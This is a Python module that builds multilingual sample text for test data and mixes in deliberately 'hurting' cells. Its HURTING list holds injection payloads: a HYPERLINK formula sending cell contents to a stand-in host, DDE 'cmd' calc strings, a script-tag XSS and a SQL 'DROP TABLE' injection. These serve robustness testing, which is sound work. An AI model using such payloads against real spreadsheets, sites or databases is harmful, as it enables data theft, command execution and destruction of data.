"""Text of the sample product: plausible business prose in many scripts, and cells that hurt.

A passage is a slice of a long text written once per process, so that a row costs a slice, while
text repeats only at distances that a compressor seldom sees: sizes measured on it mean something.
"""

from __future__ import annotations

import re
from bisect import bisect
from dataclasses import dataclass
from functools import cache
from itertools import accumulate
from random import Random

from compliance.sample import scripts, vocabulary
from compliance.sample.draws import draws
from compliance.sample.vocabulary import Language

# What a spreadsheet would run, what breaks CSV, COPY, SQL, JSON or HTML, and what breaks eyes.
# No NUL: PostgreSQL takes it in no column.
HURTING = (
    '=HYPERLINK("https://collect.example/?q="&A1,"Open")',
    "+1",
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =2+5",
    "＝1+1",
    "👩‍👩‍👧‍👦 family, 🏳️‍🌈 flag, 👍🏽 skin",
    "two\nlines",
    "two\r\nlines, as Windows writes them\r\n",
    'she said "yes", he said ""',
    "comma, semicolon; tab\tpipe|",
    "C:\\new\\table\\N",
    "\\N",
    "\\.",
    "=cmd|' /C calc'!A0",
    "+49 30 5550 142",
    "\n=1+1",
    "\u00a0=2+5",
    "＋3",
    "－4",
    "＠SUM(A1:A9)",
    "'=already quoted",
    '"=1+1"',
    "one\rold Mac",
    "NULL",
    "{}",
    "trailing space ",
    ",",
    '"',
    "0012",
    "1e5",
    "2026-01-01",
    "TRUE",
    "🇮🇪🇩🇪 flags and 🫱🏼‍🫲🏿",
    "𠮷野家 and 𝒜𝓈𝓉𝓇𝒶𝓁",
    "cafe\u0301 (decomposed), café (composed)",
    "Z̴͓a̸l̵g̷o̶",
    "\ufeffbyte order mark first",
    "zero\u200bwidth\u200djoiner",
    "\u202egnp.tfel ot thgir\u202c",
    "line\u2028separator\u2029paragraph",
    "<script>alert('x')</script> &amp;",
    "Robert'); DROP TABLE inmails;--",
    "%s %(name)s {0} {{ x }} $1 ?",
    "שלום (RTL) and مرحبا with 123",
)
# Language, share of passages, sentences written.  A long English text, as most mail is English.
SHARES: tuple[tuple[Language, float, int], ...] = (
    (vocabulary.ENGLISH, 0.58, 16_000),
    (vocabulary.GERMAN, 0.09, 2_500),
    (vocabulary.FRENCH, 0.08, 2_500),
    (vocabulary.SPANISH, 0.08, 2_500),
    (scripts.GREEK, 0.02, 600),
    (scripts.CYRILLIC, 0.02, 600),
    (scripts.ARABIC, 0.02, 600),
    (scripts.HEBREW, 0.02, 600),
    (scripts.CHINESE, 0.03, 900),
    (scripts.JAPANESE, 0.02, 600),
    (scripts.THAI, 0.02, 600),
    (scripts.DEVANAGARI, 0.02, 600),
)
TOTALS = list(accumulate(share for _, share, _ in SHARES))
PASSAGE_BYTES = 290
# Not `\b`: an ideograph is a letter of a word to a regular expression.
FIGURE = re.compile(r"(?<![A-Za-z])[ND](?![A-Za-z])")
FIGURES = {"N": (2, 9999), "D": (1, 29)}


@dataclass(frozen=True, slots=True)
class Corpus:
    text: str
    starts: list[int]
    """Where each sentence begins; the last entry is the end of the text."""
    sentences: int
    """How many sentences make a passage of about PASSAGE_BYTES of UTF-8."""

    def excerpt(self, rng: Random, sentences: int) -> str:
        first = int(rng.random() * (len(self.starts) - sentences))
        return self.text[self.starts[first] : self.starts[first + sentences] - 1]


def sentence(rng: Random, language: Language) -> str:
    words = []
    for slot in rng.choice(language.patterns).split(" "):
        choices = language.words.get(slot)
        words.append(rng.choice(choices) if choices else slot)
    text = re.sub(
        FIGURE, lambda found: str(rng.randrange(*FIGURES[found[0]])), language.joint.join(words)
    )
    text = re.sub(r" ([,;?؟])", r"\1", text)
    return text[:1].upper() + text[1:] + ("" if text.endswith(("?", ";", "؟")) else language.stop)


@cache
def corpus(number: int) -> Corpus:
    language, _, sentences = SHARES[number]
    rng = draws(f"corpus {number}")
    # One sign stands between sentences, so that an excerpt is cut without looking.
    parts = [sentence(rng, language) + rng.choice("      \n") for _ in range(sentences)]
    text = "".join(parts)
    size = len(text.encode()) / sentences
    return Corpus(text, [0, *accumulate(map(len, parts))], max(1, round(PASSAGE_BYTES / size)))


def passage(rng: Random) -> str:
    """About PASSAGE_BYTES of text in one of the languages, ending with a sentence."""
    chosen = corpus(bisect(TOTALS, rng.random()))
    return chosen.excerpt(rng, chosen.sentences)


def line(rng: Random) -> str:
    """One sentence, as a subject or a title."""
    return corpus(bisect(TOTALS, rng.random())).excerpt(rng, 1)


# One cell in twenty: mostly one that hurts, else NULL or the empty string, side by side.
RARE = 0.05
SPECIAL: tuple[str | None, ...] = (*HURTING, *[None] * 8, *[""] * 8)


def rarely_hurting(rng: Random, text: str) -> str | None:
    """`text`, or now and then a cell that hurts, NULL or the empty string instead."""
    drawn = rng.random()
    return text if drawn > RARE else SPECIAL[int(drawn / RARE * len(SPECIAL))]


def rarely_opening_badly(rng: Random, text: str) -> str | None:
    """`text`, or now and then a special cell in front of it: the row keeps its size."""
    drawn = rng.random()
    if drawn > RARE:
        return text
    special = SPECIAL[int(drawn / RARE * len(SPECIAL))]
    return f"{special}\n{text}" if special else special


def very_long(rng: Random, size: int) -> str:
    """More than `size` bytes in one cell, of every script, with lines that hurt in between."""
    parts: list[str] = []
    length = 0
    while length <= size:
        parts.append(passage(rng) + "\n" + HURTING[len(parts) % len(HURTING)])
        length += len(parts[-1].encode()) + 1
    return "\n".join(parts)
